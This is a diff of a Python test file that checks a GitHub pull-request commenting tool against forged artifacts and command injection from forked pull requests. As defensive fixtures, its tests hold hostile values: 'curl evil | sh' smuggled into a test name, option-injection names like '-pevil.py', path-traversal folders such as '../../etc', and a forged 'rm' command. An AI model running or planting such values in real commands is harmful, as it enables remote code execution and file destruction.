@@ -5,6 +5,10 @@ from __future__ import annotations
 import json
 import re
 
+import pytest
+
+from pytest_llmops.github import reporting, verdict
+from pytest_llmops.reports.pull_request import NeedsRecording
 from tests.action.conftest import SHA, Shop
 from tests.action.hub import READ_ONLY
 
@@ -68,7 +72,7 @@ def test_the_comment_of_a_forks_run_says_nothing_that_the_artifact_made_up(shop:
     assert "<script" not in body
     assert "evil/evil" not in body
     assert "@everyone" not in body
-    assert "'x; curl evil.example | sh #'" in body, "quoted: one word for a shell"
+    assert "<pre>gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh</pre>" in body, "no name of a test at all"
     assert "evil.example/2" not in body
     assert body.rstrip().endswith("<!-- pytest-llmops:default -->")
     assert list(shop.hub.comments) == [7]
@@ -96,6 +100,36 @@ def test_no_artifact_pushes_out_whose_code_measured_it(shop: Shop, main: Shop) -
     shop.pull_request(8, "own")
     shop.comment_job(shop.runs)
     assert "fork's" not in shop.hub.comments[8][0]["body"]
+
+
+NO_NAMES = (
+    *("--basetemp=/home", "-pevil.py", "@args.py", "/etc/x.py", "a/../../x.py::test", "C:\\x.py", "x.txt::test"),
+    "x.py::" + "a" * 400,
+)
+
+
+@pytest.mark.parametrize("name", NO_NAMES)
+def test_no_name_becomes_an_option_of_the_command_that_a_maintainer_pastes(name: str) -> None:
+    need = verdict.recorded_by(NeedsRecording(name), reporting.command(7, ""))
+    assert need.command == "gh pr checkout 7 && pytest --llm-record=refresh"
+    assert need.whole
+    quoted = verdict.recorded_by(NeedsRecording("x.py::t; curl evil | sh"), "pytest")
+    assert quoted.command == "pytest 'x.py::t; curl evil | sh' --llm-record=refresh"
+
+
+@pytest.mark.parametrize("folder", ["/etc", "../elsewhere", "a/../../b", "-", "--", "a\nb", "C:\\x"])
+def test_no_folder_leads_out_of_the_checkout(folder: str) -> None:
+    assert reporting.command(7, folder) == "gh pr checkout 7 && pytest"
+
+
+def test_the_command_of_a_forged_artifact(shop: Shop, main: Shop) -> None:
+    needs = [{"test": name, "changed": "x", "command": "rm"} for name in ("-pevil.py", "tests/test_x.py::test_y")]
+    body = forged(shop, conclusion="needs-recording", directory="../../etc", needs_recording=needs)
+    assert re.findall("<pre>(gh .*?)</pre>", body) == [
+        "gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh",
+        "gh pr checkout 7 &amp;&amp; pytest tests/test_x.py::test_y --llm-record=refresh",
+    ]
+    assert "<code>-pevil.py</code> (such a name can be no part of a command" in body
 
 
 def test_an_artifact_that_is_no_view_is_refused(shop: Shop) -> None:
